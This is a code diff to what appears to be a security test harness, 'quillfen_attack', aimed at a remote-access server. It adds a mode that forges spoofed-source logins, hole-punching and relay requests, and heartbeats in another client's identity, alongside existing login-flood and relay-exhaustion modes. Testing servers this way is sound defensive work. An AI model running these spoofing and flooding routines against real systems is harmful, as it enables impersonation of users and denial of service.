@@ -9,12 +9,19 @@
 //   quillfen_attack relay --server IP --count N --seconds S
 //       N idle UDT connections to the relay port, held for S seconds.
 //       Prints "RELAY n" with the number connected.
+//   quillfen_attack forge --server IP --from A --as ID --target ID
+//                         [--login 1] [--relay 1] [--heartbeats N]
+//       From address A in the name of ID: a hole-punching request to the
+//       target, with --relay 1 a relay request to it on a UDT connection,
+//       then N heartbeats 250 ms apart. With --login 1, ID logs in from A
+//       first. Prints "FORGED".
 //
 // Traffic goes only where the test says, bounded by the counts given.
 
 #include "bench/Sourced_Socket.h"
 #include "foundation/ORV_Ports.h"
 #include "foundation/net/Ipv4_Address.h"
+#include "foundation/Relay_Records.h"
 #include "foundation/Server_Records.h"
 #include "foundation/platform/Guid.h"
 
@@ -46,20 +53,27 @@ int int_arg(const std::string& name)
     return std::stoi(arg(name));
 }
 
+sockaddr_in server_port(int port)
+{
+    return Ipv4_Address::make(arg("--server"), port);
+}
+
+// A login of `identity` from `ip`, both copies, as a client sends it.
+void log_in(Sourced_Socket& sock, const std::string& identity, const std::string& ip)
+{
+    const auto record = pack_login_record(new_header(ORV::MSG_ONLINE), identity, "storm", "02:00:00:00:00:09", ip, "");
+    const Message_Block block = to_block(record.value());
+    const in_addr from = Ipv4_Address::make(ip, 0).sin_addr;
+    sock.send(from, block, server_port(ORV_Ports::SERVER_ASSIST));
+    sock.send(from, block, server_port(ORV_Ports::SERVER_LOGIN));
+}
+
 int logins()
 {
     const int count = int_arg("--count");
     Sourced_Socket sock(64 * 1024 * 1024);
-    for (int i = 0; i < count; ++i) {
-        const std::string ip = arg("--from") + "." + std::to_string(i / 250) + "." + std::to_string(i % 250 + 2);
-        const std::string identity = new_guid_string();
-        const auto record = pack_login_record(new_header(ORV::MSG_ONLINE), identity, "storm", "02:00:00:00:00:09",
-                                              ip, "");
-        const Message_Block block = to_block(record.value());
-        const in_addr from = Ipv4_Address::make(ip, 0).sin_addr;
-        sock.send(from, block, Ipv4_Address::make(arg("--server"), ORV_Ports::SERVER_ASSIST));
-        sock.send(from, block, Ipv4_Address::make(arg("--server"), ORV_Ports::SERVER_LOGIN));
-    }
+    for (int i = 0; i < count; ++i)
+        log_in(sock, new_guid_string(), arg("--from") + "." + std::to_string(i / 250) + "." + std::to_string(i % 250 + 2));
     std::cout << "SENT " << count << std::endl;
     return 0;
 }
@@ -104,10 +118,51 @@ int handshakes()
 
 int relay()
 {
-    std::vector<int> held = open_silent(Ipv4_Address::make(arg("--server"), ORV_Ports::SERVER_RELAY), int_arg("--count"));
+    std::vector<int> held = open_silent(server_port(ORV_Ports::SERVER_RELAY), int_arg("--count"));
     std::cout << "RELAY " << held.size() << std::endl;
     std::this_thread::sleep_for(std::chrono::seconds(int_arg("--seconds")));
     close_all(held);
+    return 0;
+}
+
+// A relay request on its own UDT connection, left open a moment for the
+// server to read it.
+void send_relay_request(const Message_Block& block)
+{
+    const sockaddr_in to = server_port(ORV_Ports::SERVER_RELAY);
+    const int sock = UDT::socket(AF_INET, SOCK_STREAM, 0);
+    if (UDT::connect(sock, reinterpret_cast<const sockaddr*>(&to), sizeof to) != UDT::ERROR) {
+        for (int sent = 0, n = 0; sent < ORV::BLOCK_SIZE; sent += n) {
+            if ((n = UDT::send(sock, block.data() + sent, ORV::BLOCK_SIZE - sent, 0)) <= 0)
+                break;
+        }
+        std::this_thread::sleep_for(std::chrono::seconds(1));
+    }
+    UDT::close(sock);
+}
+
+int forge()
+{
+    Sourced_Socket sock(1024 * 1024);
+    const in_addr from = Ipv4_Address::make(arg("--from"), 0).sin_addr;
+    const std::string id = arg("--as");
+    if (arg("--login") == "1") {
+        log_in(sock, id, arg("--from"));
+        std::this_thread::sleep_for(std::chrono::milliseconds(500));
+    }
+    const auto punch = pack_p2p_request(new_header(ORV::MSG_P2P_REQUEST), id, arg("--target"), ORV::STEP_REQUEST,
+                                        sockaddr_in{}, sockaddr_in{});
+    sock.send(from, to_block(punch.value()), server_port(ORV_Ports::SERVER_LOGIN));
+    if (arg("--relay") == "1")
+        send_relay_request(to_block(
+            pack_csc_request(new_header(ORV::MSG_CSC_REQUEST), id, arg("--target"), ORV::STEP_REQUEST, 0, 0).value()));
+    const int heartbeats = arg("--heartbeats").empty() ? 0 : int_arg("--heartbeats");
+    for (int i = 0; i < heartbeats; ++i) {
+        sock.send(from, to_block(pack_heartbeat(new_header(ORV::MSG_HEARTBEAT), id).value()),
+                  server_port(ORV_Ports::SERVER_HEARTBEAT));
+        std::this_thread::sleep_for(std::chrono::milliseconds(250));
+    }
+    std::cout << "FORGED" << std::endl;
     return 0;
 }
 
@@ -116,7 +171,7 @@ int relay()
 int main(int argc, char** argv)
 {
     if (argc < 2) {
-        std::cerr << "usage: quillfen_attack logins|handshakes|relay --option value ...\n";
+        std::cerr << "usage: quillfen_attack logins|handshakes|relay|forge --option value ...\n";
         return 2;
     }
     for (int i = 2; i + 1 < argc; i += 2)
@@ -129,6 +184,8 @@ int main(int argc, char** argv)
         return handshakes();
     if (mode == "relay")
         return relay();
+    if (mode == "forge")
+        return forge();
     std::cerr << "unknown mode " << mode << "\n";
     return 2;
 }
